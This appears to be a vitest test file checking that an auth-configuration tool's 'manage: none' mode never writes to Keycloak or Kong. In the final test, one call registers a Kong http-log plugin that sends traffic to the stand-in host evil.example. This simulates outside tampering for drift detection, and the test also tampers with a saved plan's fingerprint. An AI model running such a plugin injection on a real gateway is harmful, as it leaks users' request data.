import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { createAuthctl, exitCodeOf } from 'authctl';
import { describe, expect, it, onTestFinished } from 'vitest';
import { digestOf } from '../../../src/core/saved-plan.ts';
import { startUndoProxy } from '../../stack/undo-proxy.ts';
import { blueprint, nobody, startTargets } from './targets.ts';

const directory = (): string => {
  const made = mkdtempSync(join(tmpdir(), 'authctl-looking-'));
  onTestFinished(() => { rmSync(made, { recursive: true }); });
  return made;
};
/** The ledger, of which nothing is written anywhere, or at one target. */
const looking = (target?: 'keycloak' | 'kong'): string => {
  const text = readFileSync(blueprint, 'utf8');
  const file = join(directory(), 'looking.yaml');
  writeFileSync(file, target === undefined ? `${text}\nmanage: none\n` : text.replace(`  ${target}:\n`, `  ${target}:\n    manage: none\n`));
  return file;
};
const open = (env: Readonly<Record<string, string>>) => createAuthctl({ env, localStack: false, cwd: directory() });

/** Both servers, with a proxy before each that notes what could change something. */
const watched = async () => {
  const env = await startTargets();
  const writes: string[] = [];
  const before = async (name: string): Promise<string> => {
    const proxy = await startUndoProxy(env[name] ?? '');
    onTestFinished(() => proxy.close());
    proxy.decide((method, path) => {
      if (!['GET', 'HEAD', 'OPTIONS'].includes(method) && !/\/protocol\/openid-connect\/token$|\/partial-export\?/.test(path)) writes.push(`${method} ${path}`);
      return 'pass';
    });
    return proxy.url;
  };
  return { env, writes, seen: { ...env, KONG_ADMIN_URL: await before('KONG_ADMIN_URL') } };
};

describe('manage: none', () => {
  it('refuses what is only a write, before anything is contacted', async () => {
    const authctl = open(nobody);
    const file = looking();
    const asked = await Promise.all([authctl.apply(file, { approve: true }), authctl.apply(file, { approve: true, adopt: true, prune: true }), authctl.destroy(file, { approve: true }), authctl.release(file, { approve: true }), authctl.verify(file, { disruptive: true }), authctl.verify(file, { clean: true })]);
    expect(asked.map(({ problems }) => problems.map(({ code, message }) => [code, message]))).toEqual(
      ['nothing can be applied', 'nothing can be applied', 'nothing can be destroyed', 'nothing can be released', 'checks that write cannot be tried', 'nothing is taken away'].map((what) => [
        ['TARGET_ONLY_LOOKED_AT', `${what}: targets.keycloak and targets.kong are only looked at`],
      ]),
    );
    expect(asked.map(exitCodeOf)).toEqual([1, 1, 1, 1, 1, 1]);
  });

  it('plans nothing, and tells what is not there', async () => {
    const { seen, writes } = await watched();
    const report = await open(seen).plan(looking(), { exitCode: true });
    expect([report.problems, exitCodeOf(report), report.plan?.waves, report.plan?.removals, writes]).toEqual([[], 2, [], [], []]);
    expect(report.notes).toEqual(['targets.keycloak is only looked at: nothing is written there', 'targets.kong is only looked at: nothing is written there']);
    expect(report.plan?.dangers).toContainEqual(expect.objectContaining({ action: 'danger', danger: expect.objectContaining({ kind: 'keycloak.realm', what: 'is not there, not managed here' }) as unknown }));
  });

  it('finds what somebody else has made as the blueprint says, and leaves it alone', async () => {
    const { env, seen, writes } = await watched();
    expect(exitCodeOf(await open(env).apply(resolve(blueprint), { approve: true }))).toBe(0);
    const authctl = open(seen);
    expect((await authctl.drift(looking())).plan?.dangers).toEqual([]);
    expect(exitCodeOf(await authctl.drift(looking()))).toBe(0);
    expect(writes).toEqual([]);
  });

  it('of one target leaves the other to be written', async () => {
    const { env, seen, writes } = await watched();
    const authctl = open(seen);
    const file = looking('kong');
    const applied = await authctl.apply(file, { approve: true });
    expect([applied.problems, applied.notes]).toEqual([[], ['targets.kong is only looked at: nothing is written there']]);
    expect(new Set(applied.applied?.map(({ address }) => address.split('.')[0]))).toEqual(new Set(['keycloak']));
    await open(env).apply(resolve(blueprint), { approve: true });
    const destroyed = await authctl.destroy(file, { approve: true });
    expect(destroyed.problems).toEqual([]);
    expect(destroyed.plan?.removals.map((change) => 'live' in change && change.live?.kind.split('.')[0]).filter((one) => one !== 'keycloak')).toEqual([]);
    expect(writes).toEqual([]);
  });

  it('is kept by a saved plan, by accept, by a release of some things and by an inventory, too', async () => {
    const { env, seen, writes } = await watched();
    expect(exitCodeOf(await open(env).apply(resolve(blueprint), { approve: true }))).toBe(0);
    const authctl = open(seen);
    const [file, plans] = [looking(), directory()];
    const [saved, managed, forged] = ['saved', 'managed', 'forged'].map((name) => join(plans, `${name}.plan`)) as [string, string, string];
    const codes = async (report: ReturnType<typeof authctl.apply>): Promise<readonly string[]> => (await report).problems.map(({ code }) => code);
    expect((await authctl.plan(file, { out: saved })).problems).toEqual([]);
    expect(await codes(authctl.apply(saved, { approve: true }))).toEqual(['TARGET_ONLY_LOOKED_AT']);
    // One of the same stack, made where it is managed, and put before the file that only looks.
    const fresh = join(directory(), 'managed.yaml');
    writeFileSync(fresh, `${readFileSync(blueprint, 'utf8')}\n`);
    await open(env).plan(fresh, { out: managed });
    const { fingerprint: _old, ...content } = JSON.parse(readFileSync(managed, 'utf8')) as { readonly blueprint: object; readonly fingerprint: string };
    const other = { ...content, blueprint: { ...content.blueprint, file } };
    writeFileSync(forged, JSON.stringify({ ...other, fingerprint: digestOf(other) }));
    expect(['TARGET_ONLY_LOOKED_AT', 'SAVED_PLAN_CHANGED']).toContain((await codes(authctl.apply(forged, { approve: true })))[0]);
    writeFileSync(fresh, readFileSync(file, 'utf8'));
    expect(await codes(authctl.apply(managed, { approve: true }))).not.toEqual([]);
    expect(await codes(authctl.release(file, { approve: true, only: ['kong.*'] }))).toEqual(['TARGET_ONLY_LOOKED_AT']);
    await fetch(`${env['KONG_ADMIN_URL'] ?? ''}/plugins`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'http-log', config: { http_endpoint: 'http://evil.example:9/x' } }) });
    expect((await authctl.accept(file, { reason: 'known' })).data?.accepted).toMatchObject([{ what: expect.stringMatching(/^kong\.plugin\//) as string }]);
    expect(exitCodeOf(await authctl.drift(file))).toBe(0);
    expect((await authctl.inventory(file)).data?.objects.length).toBeGreaterThan(0);
    expect(writes).toEqual([]);
  });
});
